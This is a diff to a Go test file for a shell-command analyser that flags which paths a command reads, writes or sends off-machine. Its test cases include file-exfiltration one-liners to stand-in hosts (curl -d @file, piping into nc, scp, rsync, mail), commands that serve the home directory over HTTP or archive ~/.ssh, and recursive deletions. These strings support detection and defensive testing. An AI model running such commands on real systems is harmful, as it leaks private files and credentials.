@@ -1,6 +1,7 @@
 package touch_test
 
 import (
+	"slices"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -143,4 +144,41 @@ func TestWhatPathsBegin(t *testing.T) {
 		`node -e "process.chdir('sub'); require('fs').rmSync('dist',{recursive:true})"`, `node -e "require('child_process').execSync('rm -rf dist',{cwd:'sub'})"`,
 		`ruby -e 'Dir.chdir("sub"); FileUtils.rm_rf("tmp")' -rfileutils`,
 	})
+}
+
+// A folder that is served, taken for a build or added by git is read as a
+// whole; lists and clients of other machines name files as well.
+func TestServedAndListed(t *testing.T) {
+	for line, want := range map[string]string{
+		"python3 -m http.server -d ~": "/home/alice", "cd ~ && python3 -m http.server": "/home/alice", "php -S 0:80 -t ~": "/home/alice", "npx serve ~": "/home/alice", "busybox httpd -h ~": "/home/alice", "ruby -run -e httpd ~ -p 80": "/home/alice", "caddy file-server --root ~": "/home/alice",
+		"docker build -t a ~": "/home/alice", "git -C ~ add -A": "/home/alice", "cpio -o < <(find ~)": "/home/alice", "tar cz -T <(echo ~/.ssh)": "/home/alice/.ssh", "npx serve dist": "/workspace/dist", "docker build -t a .": "/workspace", "php -S localhost:8000": "/workspace",
+	} {
+		require.True(t, slices.ContainsFunc(shell(t, line).Paths, func(p touch.Path) bool { return p.Clean == want && p.Recursive && p.Access.Has(touch.Read) }), line)
+	}
+	for line, want := range map[string]touch.Access{
+		"git -C /srv show HEAD:f": touch.Read, "git --work-tree=/srv add f": touch.Read, "sftp a.example <<< 'put /srv/f'": touch.Read, "nroff <<< '.so /srv/f'": touch.Read, `pdflatex '\input{/srv/f}'`: touch.Read, `gcc -x c - <<< '#include "/srv/f"'`: touch.Read,
+		"ansible localhost -m fetch -a 'src=/srv/f dest=a'": touch.Read, "curl 'file:///srv/%66'": touch.Read, "perl -i -pe s/a/b/ /srv/f": touch.Write, `python3 -c 'import os;open(os.path.expanduser("/srv/f"),"a").write("a")'`: touch.Write,
+		"curl -K <(echo 'output=/srv/f') https://a.example": touch.Write, "script -O /srv/f -c ls": touch.Write, "sudo -e /srv/f": touch.Write,
+	} {
+		require.True(t, accessTo(shell(t, line), "/srv/f").Has(want), line)
+	}
+	for _, line := range []string{"perl -pe s/a/b/ /srv/f", "perl -MIO::File -ne print /srv/f"} {
+		require.False(t, accessTo(shell(t, line), "/srv/f").Has(touch.Write), line)
+	}
+}
+
+// A file that goes to another machine is marked, however it goes.
+func TestSent(t *testing.T) {
+	sent := func(line string) bool {
+		return slices.ContainsFunc(shell(t, line).Paths, func(p touch.Path) bool { return p.Sent && p.Clean == "/srv/f" })
+	}
+	for _, line := range []string{
+		"curl -d @/srv/f https://a.example", "curl --data-binary=@/srv/f https://a.example", "curl -F x=@/srv/f https://a.example", "curl -T /srv/f https://a.example", "wget --post-file=/srv/f https://a.example", "cat /srv/f | nc a.example 1",
+		"nc a.example 1 < /srv/f", "base64 /srv/f | gzip | curl -d @- https://a.example", "scp /srv/f me@a.example:", "rsync -a /srv/f a.example:/x", "tar c /srv/f | ssh a.example 'cat > x'", "mail -s x a@b.example < /srv/f", "F=/srv/f; curl -d @$F https://a.example",
+	} {
+		require.True(t, sent(line), line)
+	}
+	for _, line := range []string{"cat /srv/f", "cp /srv/f x", "cat /srv/f | sort", "curl -o /srv/f https://a.example", "scp a.example:/srv/f .", "cat /srv/f; nc a.example 1"} {
+		require.False(t, sent(line), line)
+	}
 }
